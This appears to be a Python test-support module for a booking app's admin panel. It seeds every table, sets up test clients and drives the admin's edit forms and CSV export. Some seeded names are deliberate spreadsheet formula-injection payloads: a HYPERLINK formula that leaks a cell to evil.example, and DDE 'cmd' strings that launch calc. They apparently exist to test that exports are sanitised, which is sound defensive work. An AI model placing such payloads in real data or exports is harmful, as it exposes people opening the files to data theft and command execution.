"""Shared setup for the admin tests (not a test module): a database with a row in every
table the admin shows, an admin's TestClient on the real API app, and the admin's own
routes driven the way its pages drive them (forms read back from the HTML, export action).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import UTC, datetime, time, timedelta
from html import unescape
from typing import TypeVar

from fastapi.testclient import TestClient
from httpx import Response
from sqlmodel import select
from starlette.applications import Starlette

from booking_app.api.admin import new_admin
from booking_app.api.admin_views import AdminModelView
from booking_app.api.app import api
from booking_app.db import read_scope, session_scope
from booking_app.models import (
    AvailabilityOverride,
    AvailabilityWindow,
    BusyBlock,
    CalendarSource,
    Lesson,
    Service,
    SignInAttempt,
    TutorProfile,
)
from booking_app.services import accounts, admin_ops, notifications
from booking_app.services import booking as booking_svc
from booking_app.services.sessions import open_session
from tests.support import clock
from tests.support.admin_forms import form_fields
from tests.support.builders import NOW, add_lesson, add_service, add_subject, add_tutor, form

T = TypeVar("T")
EVIL_NAME = '=HYPERLINK("http://evil.example/?g="&B2,"guest")'


CALENDAR_SECRET_URL = "https://calendar.example.com/ical/private-5ecre7abcdef/basic.ics"
CALENDAR_SECRET_SEALED = "gAAAAABsealed-password-token-0123456789"


@dataclass(frozen=True)
class World:
    admin_id: int
    student_id: int
    tutor_id: int
    service_id: int
    booking_token: str
    lesson_id: int  # the booked lesson (09:00-10:00 Kyiv on MONDAY_10's day)


def build_world() -> World:
    """One row (at least) in every table the admin lists (the audit log too); the guest's
    name is a formula."""
    admin_id = accounts.create_admin(
        email="admin@example.com", name="Ada Admin", phone="+380671110000", password="admin-pass-1"
    )
    student = accounts.register(
        accounts.Registration(
            "@cmd|' /C calc'!A0",
            "stan@example.com",
            "+380671110001",
            "student-pass",
            "student",
            "UTC",
        )
    )
    tutor = add_tutor()
    service = add_service(tutor, name="-2+3+cmd|' /C calc'!A0")
    created = booking_svc.create_booking(
        form(tutor, service, name=EVIL_NAME), student_id=None, now=NOW
    )
    add_lesson(tutor, NOW + timedelta(days=3), students=(student.id,))
    add_subject("Maths")
    notifications.scan(NOW + timedelta(minutes=1))  # no bot token: rows kept as `skipped`
    with session_scope(write=True) as session:
        session.add(AvailabilityOverride(tutor_id=tutor, day=NOW.date(), start_time=time(10)))
        session.add(BusyBlock(tutor_id=tutor, starts_at=NOW, ends_at=NOW + timedelta(hours=1)))
        session.add(SignInAttempt(email="x@example.com", ip="192.0.2.1", attempted_at=NOW))
        session.add(  # a connected calendar: its address and sealed password are secrets
            CalendarSource(
                tutor_id=tutor, name="Personal", url=CALENDAR_SECRET_URL,
                secret_enc=CALENDAR_SECRET_SEALED, username="olena-dav",
            )
        )  # fmt: skip
        lesson_id = session.exec(select(Lesson.id).where(Lesson.service_id == service)).one()
    admin_ops.set_active(admin_id, student.id, active=True, now=NOW)  # an audit log row
    return World(admin_id, student.id, tutor, service, created.token, lesson_id)


def client_for(user_id: int, role: str = "admin") -> TestClient:
    """A TestClient on the API app that Reflex mounts, with that user's session cookie.
    Server errors come back as 500 responses (what a browser would see)."""
    client = TestClient(api, raise_server_exceptions=False)
    client.cookies.set("session", open_session(user_id=user_id, role=role, now=clock.now()))
    return client


MACHINERY_MODELS = (TutorProfile, Service, AvailabilityWindow, AvailabilityOverride, BusyBlock)
"""Models with every kind of column (decimals, checks, foreign keys, JSON, dates, times,
datetimes). The app shows them read-only (api/admin_offer.py); ``machinery_client`` puts
plain generic views over them in a test-only admin, to try the form machinery that the
app's generic views (subjects, users) share (api/admin_views.AdminModelView)."""


def machinery_client(user_id: int) -> TestClient:
    """Like ``client_for``, on a test-only admin (the app's sign-in, timezone, templates
    and CSRF) with a generic create / edit / delete view of each of MACHINERY_MODELS."""
    admin = new_admin()
    for model in MACHINERY_MODELS:
        admin.add_view(AdminModelView(model))
    app = Starlette()
    admin.mount_to(app)
    client = TestClient(app, raise_server_exceptions=False)
    client.cookies.set("session", open_session(user_id=user_id, role="admin", now=clock.now()))
    return client


def first_pk(client: TestClient, key: str) -> str:
    listing = client.get(f"/admin/{key}/list")
    assert listing.status_code == 200, (key, listing.status_code)
    pks = re.findall(rf"/admin/{key}/detail\?pk=([^\"&]+)", listing.text)
    assert pks, f"no {key} rows listed"
    return pks[0]


def edit_form(client: TestClient, key: str, pk: str) -> dict[str, str]:
    """The edit page's form as a browser would submit it untouched (csrftoken included)."""
    page = client.get(f"/admin/{key}/edit", params={"pk": pk})
    assert page.status_code == 200, (key, page.status_code)
    return form_fields(page.text)


def post_edit(client: TestClient, key: str, pk: str, data: dict[str, str]) -> Response:
    return client.post(f"/admin/{key}/edit", params={"pk": pk}, data=data, follow_redirects=False)


def field_errors(html: str) -> dict[str, str]:
    """{field id: message} of the errors shown under the form's fields."""
    found = re.findall(r'class="invalid-feedback" id="([^"]+)-error">\s*([^<]+?)\s*<', html)
    return {name: unescape(message) for name, message in found}


def csrf_token(client: TestClient) -> str:
    page = client.get("/admin/user/list")
    match = re.search(r'name="csrftoken" value="([^"]+)"', page.text)
    assert match, "admin pages carry a CSRF token"
    return match.group(1)


def export(client: TestClient, key: str, fmt: str = "csv") -> Response:
    """The list page's Export button: every row, every field the view offers."""
    return client.post(
        f"/admin/_api/{key}/action",
        params={"name": "export", "all": "1"},
        data={"format": fmt, "scope": "all"},
        headers={"X-CSRFToken": csrf_token(client)},
    )


def aware(value: datetime) -> datetime:
    """SQLite and PostgreSQL both hand back aware UTC (models/base.py)."""
    assert value.tzinfo is not None
    return value.astimezone(UTC)


def row(model: type[T], pk: object) -> T:
    with read_scope() as session:
        found = session.get(model, pk)
        assert found is not None
        return found
